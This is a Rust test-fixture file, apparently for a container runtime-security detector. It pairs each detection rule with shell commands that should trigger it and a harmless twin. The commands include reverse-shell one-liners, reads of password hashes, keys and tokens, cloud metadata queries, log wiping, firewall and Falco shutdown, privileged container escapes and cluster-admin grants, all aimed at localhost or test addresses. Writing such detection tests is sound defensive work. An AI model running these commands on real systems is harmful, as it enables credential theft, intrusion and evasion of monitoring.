//! What shell scripts in a container do to set rules off, and what they do that is harmless.

use std::io;
use std::path::Path;

/// What is done about a rule.
pub struct Act {
    /// The rule's name.
    pub rule: &'static str,
    /// Scripts that must set it off, each.
    pub does: &'static [&'static str],
    /// One that must not.
    pub twin: &'static str,
}

/// Programs that end at once: what matters of them is the name and the arguments.
pub const NAMES: &[&str] = &[
    "harmless",
    "apk",
    "su",
    "hydra",
    "nmap",
    "socat",
    "amicontained",
    "iptables",
    "pkill",
    "ssh",
    "xmrig",
    "pawns-cli",
    "hping3",
    "shred",
    "velero",
    "kubectl",
    "docker",
    "skopeo",
    "curl",
    "nc",
];

/// Programs of the machine under another name.
pub const COPIES: &[(&str, &str)] = &[
    // A service, and a server for SSH, that can start something.
    ("nginx", "/bin/dash"),
    ("sshd", "/bin/dash"),
    // The client that a file is for.
    ("reader", "/usr/bin/cat"),
    // A download from not far away.
    ("wget", "/usr/bin/cp"),
    ("auditd", "/usr/bin/sleep"),
    ("worker", "/usr/bin/sleep"),
    ("busybox", "/bin/busybox"),
];

/// Sends a query for an address over UDP.
const LOOK_UP: &str = r#"use IO::Socket::INET;
my $name = join "", map { chr(length) . $_ } split /\./, $ARGV[0];
my $socket = IO::Socket::INET->new(Proto => "udp", PeerAddr => "127.0.0.1", PeerPort => 53);
print $socket pack("n6", 7, 256, 1, 0, 0, 0) . $name . pack("C n2", 0, 1, 1);
"#;

/// Asks for a name, answers that it is an address, and tries to connect there.
const RESOLVE: &str = r#"use IO::Socket::INET;
my ($name, $address) = @ARGV;
my $server = IO::Socket::INET->new(Proto => "udp", LocalAddr => "127.0.0.1", LocalPort => 53) or die;
my $client = IO::Socket::INET->new(Proto => "udp", PeerAddr => "127.0.0.1", PeerPort => 53);
my $question = join("", map { chr(length) . $_ } split /\./, $name) . pack("C n2", 0, 1, 1);
print $client pack("n6", 7, 0x100, 1, 0, 0, 0) . $question;
$server->recv(my $query, 512);
$server->send(pack("n6", 7, 0x8180, 1, 1, 0, 0) . $question . pack("n3 N n", 0xc00c, 1, 1, 60, 4) . inet_aton($address));
$client->recv(my $answer, 512);
IO::Socket::INET->new(PeerAddr => $address, PeerPort => 443);
"#;

/// Connects to an address and a port, or tries to.
const CONNECT: &str = r#"use IO::Socket::INET;
IO::Socket::INET->new(Proto => "tcp", PeerAddr => $ARGV[0], PeerPort => $ARGV[1], Timeout => 1);
"#;

/// Listens and connects at a path.
const MEET: &str = r#"use IO::Socket::UNIX;
my $server = IO::Socket::UNIX->new(Local => $ARGV[0], Listen => 1);
IO::Socket::UNIX->new(Peer => $ARGV[0]);
"#;

/// Listens at an address and a port, connects there as often as it is told, and takes each connection.
const SERVE: &str = r#"use IO::Socket::INET;
my $server = IO::Socket::INET->new(LocalAddr => $ARGV[0], LocalPort => $ARGV[1], Listen => 1);
for (1 .. $ARGV[2]) {
    my $client = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1]);
    $server->accept;
}
"#;

/// Tries ports of an address, from one on.
const TRY_PORTS: &str = r#"use IO::Socket::INET;
IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1] + $_) for (1 .. $ARGV[2]);
"#;

/// Tries a port of addresses of this machine.
const TRY_ADDRESSES: &str = r#"use IO::Socket::INET;
IO::Socket::INET->new(PeerAddr => "127.0.1.$_", PeerPort => $ARGV[0]) for (1 .. $ARGV[1]);
"#;

/// Puts files into the container's root.
pub fn prepare(root: &Path) -> io::Result<()> {
    let write = |name: &str, text: &str| {
        let path = root.join(name);
        path.parent().map_or(Ok(()), std::fs::create_dir_all)?;
        std::fs::write(path, text)
    };
    write("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n")?;
    write("etc/group", "root:x:0:\n")?;
    write("etc/shadow", "root:*:19000:0:99999:7:::\n")?;
    write("etc/hosts", "127.0.0.1 localhost\n")?;
    write("root/.ssh/id_ed25519", "key\n")?;
    write("root/.aws/credentials", "key\n")?;
    write("root/.bash_history", "ls\n")?;
    write("root/.zsh_history", "ls\n")?;
    write("run/secrets/kubernetes.io/serviceaccount/token", "token\n")?;
    for log in ["auth.log", "other.log", "app.log"] {
        write(&format!("var/log/{log}"), "a line\n")?;
    }
    write("scripts/look_up.pl", LOOK_UP)?;
    write("scripts/resolve.pl", RESOLVE)?;
    write("scripts/connect.pl", CONNECT)?;
    write("scripts/meet.pl", MEET)?;
    write("scripts/serve.pl", SERVE)?;
    write("scripts/try_ports.pl", TRY_PORTS)?;
    write("scripts/try_addresses.pl", TRY_ADDRESSES)?;
    // A disk of the machine, to be opened for reading and nothing else.
    let disks = std::fs::read_dir("/sys/dev/block")?.flatten().map(|entry| entry.file_name());
    let mut disks: Vec<String> = disks.map(|name| name.to_string_lossy().replace(':', " ")).collect();
    disks.sort();
    write("scripts/disk", disks.first().map_or("7 0", String::as_str))
}

/// All of them.
#[rustfmt::skip]
pub const ACTS: &[Act] = &[
    // execution.yaml
    Act { rule: "Terminal shell in container", does: &["script -qc 'sh -c true' /dev/null"], twin: "sh -c true" },
    Act { rule: "Shell started by a service", does: &["nginx -c 'sh -c true; true'"], twin: "sh -c 'sh -c true; true'" },
    Act { rule: "Shell of a service goes further", does: &["nginx -c 'sh -c \"cat /root/.aws/credentials; true\"; true'"], twin: "sh -c 'cat /root/.aws/credentials; true'" },
    Act { rule: "Intruder's tool started by a service", does: &["nginx -c 'id; true'"], twin: "sh -c 'id; true'" },
    Act { rule: "Shell opens a connection",
        does: &["bash -c 'echo >/dev/tcp/127.0.0.1/9'", "bash -c 'exec 3<>/dev/udp/127.0.0.1/9'"], twin: "bash -c 'perl /scripts/connect.pl 127.0.0.1 9'" },
    Act { rule: "Reverse shell on a command line",
        does: &["bash -c 'exec 3<>/dev/tcp/127.0.0.1/9'", "nc 127.0.0.1 9 -e sh", "socat tcp:127.0.0.1:9 exec:sh",
            "perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); exec \"/bin/sh\", \"-c\", \"true\"'"],
        twin: "nc -z 127.0.0.1 9" },
    Act { rule: "Program started from a folder for temporary data",
        does: &["cp /usr/local/bin/harmless /tmp/x; /tmp/x", "mkdir -p /var/tmp/.x; cp /usr/local/bin/harmless /var/tmp/.x/y; cd /var/tmp; ./.x/y"], twin: "harmless" },
    Act { rule: "Program without a file", does: &["deed program-in-memory", "deed program-deleted"], twin: "deed program" },
    Act { rule: "Program that the image did not bring", does: &["cp /usr/local/bin/harmless /usr/local/bin/new; new"], twin: "harmless" },
    Act { rule: "Downloaded program run", does: &["wget /usr/local/bin/harmless /srv/fetched; /srv/fetched"],
        twin: "cp /usr/local/bin/harmless /srv/copied; /srv/copied" },
    Act { rule: "Package installed in a running container", does: &["apk add socat"], twin: "apk info" },
    // persistence.yaml
    Act { rule: "Users or passwords changed",
        does: &["echo x:x:0:0::/:/bin/sh >>/etc/passwd", "cp /etc/passwd /tmp/p; mv /tmp/p /etc/passwd", "useradd -M evil"],
        twin: "cp /etc/passwd /tmp/passwd" },
    Act { rule: "Key for logins or right to become root added",
        does: &["echo key >>/root/.ssh/authorized_keys", "mkdir -p /etc/sudoers.d; echo x >/etc/sudoers.d/x"], twin: "echo host >>/root/.ssh/known_hosts" },
    Act { rule: "Job scheduled", does: &["mkdir -p /etc/cron.d; echo x >/etc/cron.d/x", "mkdir -p /host/var/spool/cron; echo x >/tmp/c; mv /tmp/c /host/var/spool/cron/root"],
        twin: "echo x >/etc/motd" },
    Act { rule: "Start-up file changed", does: &["mkdir -p /etc/profile.d; echo x >/etc/profile.d/x.sh", "echo alias >>/root/.bashrc"], twin: "echo x >/etc/motd" },
    Act { rule: "Container service defined on the node",
        does: &["mkdir -p /host/etc/kubernetes/manifests; echo x >/host/etc/kubernetes/manifests/x.yaml"], twin: "mkdir -p /srv/manifests; echo x >/srv/manifests/x.yaml" },
    Act { rule: "Write below a folder of programs", does: &["cp /usr/local/bin/harmless /usr/local/bin/other", "echo x >>/lib/x"], twin: "cp /usr/local/bin/harmless /srv/other" },
    // privilege_escalation.yaml
    Act { rule: "Set-user-id program made", does: &["cp /usr/local/bin/harmless /srv/s; chmod u+s /srv/s", "cp /usr/local/bin/harmless /srv/t; chmod 6755 /srv/t"],
        twin: "cp /usr/local/bin/harmless /srv/u; chmod 755 /srv/u" },
    Act { rule: "User namespace made", does: &["unshare --user true", "deed clone-user-namespace"], twin: "unshare --uts true" },
    Act { rule: "Capabilities out of nowhere", does: &["deed rights-of-user-namespace"], twin: "deed rights-dropped" },
    Act { rule: "Program started without its own name", does: &["deed program-without-arguments"], twin: "deed program" },
    Act { rule: "Code put into another process", does: &["deed write-memory", "deed poke"], twin: "deed read-memory" },
    Act { rule: "Memory file of a process opened", does: &["cat /proc/self/mem"], twin: "cat /proc/self/maps" },
    Act { rule: "Root by su or sudo", does: &["setpriv --reuid 1000 --clear-groups su"], twin: "su nobody" },
    // escape.yaml. Opened, and nothing is written.
    Act { rule: "Kernel setting for escape written", does: &[": >>/proc/sys/kernel/core_pattern"], twin: ": >>/proc/self/oom_score_adj" },
    Act { rule: "Namespace of another process joined", does: &["nsenter --target 1 --uts true"], twin: "unshare --uts true" },
    Act { rule: "Disk or kernel file system mounted", does: &["mkdir -p /mnt/p; mount -t proc p /mnt/p; umount /mnt/p"],
        twin: "mkdir -p /mnt/t; mount -t tmpfs t /mnt/t; umount /mnt/t" },
    Act { rule: "Disk opened", does: &["mknod /srv/disk b $(cat /scripts/disk); dd if=/srv/disk of=/dev/null count=0"], twin: "dd if=/dev/zero of=/dev/null count=0" },
    Act { rule: "Device file of a disk made", does: &["mknod /srv/disk2 b 7 99"], twin: "mknod /srv/pipe p" },
    Act { rule: "Namespace tool in container", does: &["unshare --uts true", "nsenter --target 1 --uts true"], twin: "harmless" },
    // credential_access.yaml
    Act { rule: "Password hashes read", does: &["cat /etc/shadow", "ln -s /etc/shadow /tmp/innocent; cat /tmp/innocent"], twin: "cat /etc/passwd" },
    Act { rule: "Keys or credentials read by hand",
        does: &["cat /root/.ssh/id_ed25519", "cp /usr/bin/cat /usr/local/bin/mycat; mycat /root/.aws/credentials"], twin: "reader /root/.ssh/id_ed25519" },
    Act { rule: "Service account token read by hand",
        does: &["cat /run/secrets/kubernetes.io/serviceaccount/token", "perl -e 'open F, \"/run/secrets/kubernetes.io/serviceaccount/token\"'"],
        twin: "reader /run/secrets/kubernetes.io/serviceaccount/token" },
    Act { rule: "Environment of a process read by hand", does: &["cat /proc/1/environ"], twin: "reader /proc/1/environ" },
    Act { rule: "Cloud metadata service contacted by hand", does: &["cp /usr/bin/perl /usr/local/bin/p; p /scripts/connect.pl 169.254.169.254 80", "perl -e 'use IO::Socket::INET; IO::Socket::INET->new(\"169.254.169.254:80\")'"],
        twin: "perl /scripts/connect.pl 169.254.169.254 80" },
    Act { rule: "Cloud metadata service contacted", does: &["perl /scripts/connect.pl 169.254.169.254 80"], twin: "perl /scripts/connect.pl 127.0.0.1 80" },
    Act { rule: "Search for credentials", does: &["find /root -name id_rsa", "grep -rl 'PRIVATE KEY' /root"], twin: "find /root -name readme" },
    Act { rule: "Password guessing tool", does: &["hydra -l root -P words ssh://127.0.0.1"], twin: "harmless -l root" },
    Act { rule: "Logins tried", does: &["perl /scripts/serve.pl 127.0.0.5 22 25"], twin: "perl /scripts/serve.pl 127.0.0.6 22 5" },
    // discovery.yaml
    Act { rule: "Network scanner in container", does: &["nmap 127.0.0.1"], twin: "harmless 127.0.0.1" },
    Act { rule: "Ports of a machine tried", does: &["perl /scripts/try_ports.pl 127.0.0.1 1000 30"], twin: "perl /scripts/try_ports.pl 127.0.0.2 2000 5" },
    Act { rule: "Machines of a network tried", does: &["perl /scripts/try_addresses.pl 6379 30"], twin: "perl /scripts/try_addresses.pl 6380 5" },
    Act { rule: "Network tool in container", does: &["socat - tcp:127.0.0.1:9", "nc -z 127.0.0.1 9"], twin: "harmless 127.0.0.1" },
    Act { rule: "Raw socket opened", does: &["perl -e 'use Socket; socket(S, PF_INET, SOCK_RAW, 1)'", "perl -e 'socket(S, 17, 3, 0)'"],
        twin: "perl -e 'use Socket; socket(S, PF_INET, SOCK_DGRAM, 0)'" },
    Act { rule: "Tool for breaking out in container", does: &["amicontained", "sh /srv/deepce.sh"], twin: "sh /srv/entrypoint.sh" },
    Act { rule: "Container looks at its own walls", does: &["cat /proc/1/cgroup"], twin: "reader /proc/1/cgroup" },
    // defense_evasion.yaml
    Act { rule: "Log removed or emptied", does: &["rm /var/log/auth.log", ": >/var/log/other.log", "truncate -s 0 /var/log/app.log"], twin: "echo line >>/var/log/app.log" },
    Act { rule: "Shell history removed", does: &["rm /root/.bash_history", "ln -sf /dev/null /root/.bash_history", ": >/root/.zsh_history"], twin: "echo ls >>/root/.ash_history" },
    Act { rule: "Disguise as a thread of the kernel",
        does: &["bash -c 'exec -a [kworker/0:1] harmless'", "perl -e '$0 = \"kworker/0:1\"'", "cp /usr/local/bin/harmless /srv/kworker; /srv/kworker"],
        twin: "bash -c 'exec -a worker harmless'" },
    Act { rule: "Name of a system program at another place", does: &["cp /usr/local/bin/harmless /root/sshd; /root/sshd", "cp /usr/local/bin/harmless /usr/local/bin/ps; ps"], twin: "sshd -c true" },
    Act { rule: "Security program ended or stopped", does: &["auditd 60 & until grep -q auditd /proc/$!/comm; do :; done; kill -9 $!"],
        twin: "worker 60 & until grep -q worker /proc/$!/comm; do :; done; kill -9 $!" },
    Act { rule: "Protection switched off by command", does: &["iptables -F", "pkill -9 falco"], twin: "iptables -L; pkill worker" },
    Act { rule: "Protection of the kernel switched off", does: &[": >>/proc/sys/kernel/randomize_va_space"], twin: ": >>/proc/self/oom_score_adj" },
    // network.yaml
    Act { rule: "Management port reached from outside",
        does: &["busybox ip addr add 203.0.113.7/32 dev lo; perl /scripts/serve.pl 203.0.113.7 2375 1"], twin: "perl /scripts/serve.pl 127.0.0.1 2376 1" },
    Act { rule: "Login by SSH into a container", does: &["sshd -c 'sh -c true; true'"], twin: "sh -c 'sh -c true; true'" },
    Act { rule: "Remote shell or copy started", does: &["ssh db"], twin: "harmless db" },
    Act { rule: "Tunnel or hidden service looked up", does: &["perl /scripts/look_up.pl abc.oast.fun"], twin: "perl /scripts/look_up.pl www.example.com" },
    // kernel.yaml
    Act { rule: "Kernel module loaded or kernel replaced", does: &["deed load-module"], twin: "cat /proc/modules" },
    Act { rule: "Program loaded into the kernel", does: &["deed load-program"], twin: "deed make-map" },
    Act { rule: "Page faults taken over", does: &["deed userfaultfd"], twin: "deed epoll" },
    Act { rule: "System calls by a ring", does: &["deed io_uring"], twin: "deed epoll" },
    Act { rule: "Kernel's log read", does: &["deed kernel-log"], twin: "cat /etc/hosts" },
    // runtime.yaml
    Act { rule: "Container runtime socket contacted", does: &["perl /scripts/meet.pl /srv/docker.sock", "perl /scripts/meet.pl /tmp/containerd.sock; true"], twin: "perl /scripts/meet.pl /srv/app.sock" },
    Act { rule: "Docker API contacted over the network", does: &["perl /scripts/connect.pl 127.0.0.1 2375"], twin: "perl /scripts/connect.pl 127.0.0.1 5432" },
    Act { rule: "Kubelet contacted", does: &["perl /scripts/connect.pl 127.0.0.1 10250"], twin: "perl /scripts/connect.pl 127.0.0.1 5432" },
    Act { rule: "Kubernetes API looked up by hand", does: &["perl -e \"$(cat /scripts/look_up.pl)\" kubernetes.default.svc"], twin: "perl /scripts/look_up.pl kubernetes.default.svc" },
    Act { rule: "Client of runtime or cluster in container", does: &["kubectl version", "docker version"], twin: "harmless version" },
    // cluster.yaml
    Act { rule: "Container deployed from a container",
        does: &["docker run --privileged -v /:/host alpine", "kubectl apply -f /srv/pod.yaml", "curl -s --unix-socket /run/docker.sock http://x/v1.41/containers/create"], twin: "docker pull alpine" },
    Act { rule: "Container service made from a container", does: &["docker run -d --restart always x", "kubectl create -f daemonset.yaml"], twin: "docker run x" },
    Act { rule: "Job scheduled in the cluster",
        does: &["kubectl create cronjob x --image=x --schedule='*/5 * * * *' -- sh", "curl -X POST https://10.0.0.1/apis/batch/v1/namespaces/x/cronjobs"], twin: "kubectl get cronjob" },
    Act { rule: "Rights given in the cluster", does: &["kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=x"], twin: "kubectl get clusterrolebinding" },
    Act { rule: "Secrets asked of the cluster", does: &["kubectl get secrets -A -o yaml", "curl -k https://10.0.0.1/api/v1/namespaces/x/secrets"], twin: "kubectl get pods" },
    Act { rule: "Rights looked up in the cluster", does: &["kubectl auth can-i --list"], twin: "kubectl get pods" },
    Act { rule: "Cluster or runtime explored", does: &["kubectl get pods -A", "docker ps -a"], twin: "kubectl version" },
    Act { rule: "Command run in another container", does: &["kubectl exec -it db-0 -- sh", "docker exec db sh"], twin: "kubectl get pods" },
    Act { rule: "Image built from a container", does: &["docker build -t x /srv"], twin: "docker pull x" },
    Act { rule: "Image changed or pushed from a container", does: &["docker push registry/x", "skopeo copy a b"], twin: "docker pull x" },
    Act { rule: "Access token on a command line", does: &["curl -H 'Authorization: Bearer eyJ' https://10.0.0.1/api"], twin: "curl https://10.0.0.1/api" },
    // impact.yaml
    Act { rule: "Crypto miner in container", does: &["xmrig", "harmless -o stratum+tcp://pool:3333"], twin: "harmless" },
    Act { rule: "Crypto miner that the image brought", does: &["xmrig"], twin: "cp /usr/local/bin/xmrig /usr/local/lib/xmrig; /usr/local/lib/xmrig" },
    Act { rule: "Mining pool looked up", does: &["perl /scripts/look_up.pl pool.supportxmr.com"], twin: "perl /scripts/look_up.pl supportxmr.com.example.com" },
    Act { rule: "Mining pool contacted", does: &["perl /scripts/connect.pl 203.0.113.9 3333"], twin: "perl /scripts/connect.pl 203.0.113.9 5432" },
    Act { rule: "Bandwidth sold", does: &["pawns-cli", "perl /scripts/look_up.pl api.traffmonetizer.com"], twin: "perl /scripts/look_up.pl www.example.com" },
    Act { rule: "Flood tool in container", does: &["hping3 --flood 203.0.113.7"], twin: "harmless 203.0.113.7" },
    Act { rule: "Data destroyed by command", does: &["shred -u /srv/x"], twin: "mkdir /tmp/z; rm -rf /tmp/z" },
    Act { rule: "Copies for recovery removed", does: &["velero backup delete --all", "kubectl delete volumesnapshot --all"], twin: "velero backup get" },
];

/// Those in a container that sees the host's processes.
#[rustfmt::skip]
pub const AMONG_HOST: &[Act] = &[
    Act { rule: "File outside of the container opened", does: &["cat /proc/$(cat /scripts/outside)/root/etc/hostname"], twin: "cat /etc/hosts" },
    Act { rule: "Process of another container reached into", does: &["deed trace $(cat /scripts/victim)", "deed take-descriptor $(cat /scripts/outside)"],
        twin: "deed trace; deed take-descriptor" },
    Act { rule: "Process outside of the container ended or stopped", does: &["kill -9 $(cat /scripts/victim)"],
        twin: "worker 60 & until grep -q worker /proc/$!/comm; do :; done; kill -9 $!" },
];
